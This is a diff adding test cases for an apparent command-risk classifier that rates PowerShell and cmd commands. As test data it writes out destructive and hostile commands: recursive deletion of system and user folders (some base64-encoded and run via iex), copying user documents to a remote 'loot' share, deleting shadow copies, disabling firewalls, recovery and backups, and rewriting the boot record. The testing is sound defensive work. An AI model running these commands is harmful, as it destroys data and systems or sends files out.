@@ -56,6 +56,70 @@ _PS_CASES = [
 ]
 
 
+_PS_CASES += [
+    # base64 built at run time from a literal is the literal; a literal decoded and run by
+    # iex is judged as what it decodes to (moderate floor), an unknown one stays opaque
+    (
+        "$c='Remove-Item C:\\Windows -Recurse -Force';"
+        " powershell -enc ([Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($c)))",
+        B,
+    ),
+    (
+        "pwsh -EncodedCommand ([Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes("
+        "'rd $env:USERPROFILE -r -fo')))",
+        B,
+    ),
+    ("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('R2V0LURhdGU=')))", M),
+    (
+        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("
+        "'UmVtb3ZlLUl0ZW0gQzpcVXNlcnMgLVJlY3Vyc2U=')))",
+        B,
+    ),
+    ("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($blob)))", C),
+    # a glob at the top of the system drive that matches a system folder
+    ("Remove-Item 'C:\\Program Files*' -Recurse -Force", B),
+    ("Get-ChildItem C:\\Win* | Remove-Item -Recurse -Force", B),
+    ("Remove-Item C:\\build* -Recurse -Force", D),
+    ("Remove-Item D:\\Win* -Recurse -Force", D),
+    # home and personal folders copied to another machine's share
+    (
+        "Copy-Item -Path $env:APPDATA\\Microsoft\\Windows\\Recent\\*"
+        " -Destination \\\\h\\s -Recurse",
+        C,
+    ),
+    ("Copy-Item C:\\Users\\bob\\Documents \\\\203.0.113.9\\loot -Recurse", C),
+    ("Move-Item $HOME\\Pictures \\\\h\\s", C),
+    ("Copy-Item .\\out\\* \\\\nas\\share -Recurse", M),
+    # several literal strings piped into a loop: the worst of them is $_
+    ("'a', 'C:\\Users' | ForEach-Object { Remove-Item -LiteralPath $_ -Recurse }", B),
+    ("'a', 'b' | % { Remove-Item $_ -Recurse -Force }", D),
+    ("$env:SystemRoot | Remove-Item -Recurse -Force", B),
+    ("$env:TEMP | Get-ChildItem", S),
+    # values chosen by if/switch subexpressions and read back with Get-Variable
+    ("Remove-Item $(if ($x) { '.\\out' } else { 'C:\\Program Files' }) -Recurse -Force", B),
+    ("Remove-Item $(switch ($n) { 1 { 'C:\\Users' } }) -Recurse -Force", B),
+    ("Remove-Item $(if ($x) { '.\\out' } else { '.\\dist' }) -Recurse -Force", D),
+    ("Set-Variable t 'C:\\ProgramData'; Remove-Item (Get-Variable t -ValueOnly) -Recurse", B),
+    ("$t = 'C:\\Users'; Remove-Item (gv t).Value -Recurse -Force", B),
+    # a literal script block called with arguments
+    ("& { param($p) Remove-Item $p -Recurse -Force } 'C:\\Windows'", B),
+    (". { Remove-Item $args[0] -Recurse -Force } $env:USERPROFILE", B),
+    ("& { param($p) Get-ChildItem $p } 'C:\\Windows'", S),
+    # Explorer's Delete verb through Shell.Application
+    (
+        "(New-Object -ComObject Shell.Application).NameSpace('C:\\Users').Self"
+        ".InvokeVerb('delete')",
+        B,
+    ),
+    (
+        "(New-Object -ComObject Shell.Application).NameSpace('C:\\').ParseName('Windows')"
+        ".InvokeVerb('Delete')",
+        B,
+    ),
+    ("(New-Object -ComObject Shell.Application).NameSpace('C:\\w').Self.InvokeVerb('open')", M),
+]
+
+
 @pytest.mark.parametrize("command,expected", _PS_CASES)
 def test_ps9_powershell_mechanisms(command: str, expected: RiskLevel) -> None:
     got = assess(command, "powershell").level
@@ -79,4 +143,56 @@ def test_ps9_mechanisms_keep_their_level_when_wrapped(
 ) -> None:
     text = wrapper.format(command)
     got = assess(text, "powershell").level
+    assert got >= expected, f"{text!r}: {got.label}, expected at least {expected.label}"
+
+
+_CMD_CASES = [
+    # cmd's quote rule for /c: more than two quotes, the first and last go
+    ('cmd /c "rd /s /q "C:\\Program Files""', B),
+    ('cmd /c ""rd" /s /q "C:\\Program Files""', B),
+    ('cmd /c "rd /s /q "C:\\temp\\my build""', D),
+    ('cmd /c "dir "C:\\Program Files""', S),
+    ('cmd /c"rd /s /q C:\\Users"', B),
+    ('cmd /k"vssadmin delete shadows /all"', B),
+    # a for loop's parenthesised body: every command of the group is the body
+    ("for %d in (C:\\Windows) do (echo x& rd /s /q %d)", B),
+    ('cmd /v:on /c "for %d in (C:\\Windows C:\\Users) do (set t=%d& rd /s /q !t!)"', B),
+    ("for %f in (build dist) do (echo removing %f & rd /s /q %f)", D),
+    ("for %f in (a.txt b.txt) do (echo %f && type %f)", S),
+    # every firewall rule off or deleted
+    ("netsh advfirewall firewall set rule all new enable=no", C),
+    ("netsh advfirewall firewall delete rule name=all", C),
+    ('netsh advfirewall firewall delete rule name="web 8080"', M),
+    # recovery and boot tools take -switch as well as /switch; backups turned off
+    ("bcdedit -set {current} recoveryenabled off", B),
+    ("bcdedit -enum", S),
+    ("reagentc -disable", B),
+    ("wbadmin disable backup", C),
+    ("wbadmin get versions", S),
+    ("sc delete vss", C),
+    ("sc delete myapp", D),
+    ("bootsect /nt60 C: /mbr", C),
+    ("bootsect /help", S),
+]
+
+
+@pytest.mark.parametrize("command,expected", _CMD_CASES)
+def test_ps9_cmd_mechanisms(command: str, expected: RiskLevel) -> None:
+    got = assess(command, "cmd").level
+    assert got == expected, f"{command!r}: {got.label}, expected {expected.label}"
+
+
+_CMD_WRAPPERS = ["cmd /c {0}", "call {0}", "if exist C:\\ {0}", "start /b {0}"]
+
+
+@pytest.mark.parametrize("wrapper", _CMD_WRAPPERS)
+@pytest.mark.parametrize(
+    "command,expected",
+    [(c, e) for c, e in _CMD_CASES if e >= RiskLevel.CRITICAL and not c.startswith(("cmd", "for"))],
+)
+def test_ps9_cmd_mechanisms_keep_their_level_when_wrapped(
+    wrapper: str, command: str, expected: RiskLevel
+) -> None:
+    text = wrapper.format(command)
+    got = assess(text, "cmd").level
     assert got >= expected, f"{text!r}: {got.label}, expected at least {expected.label}"
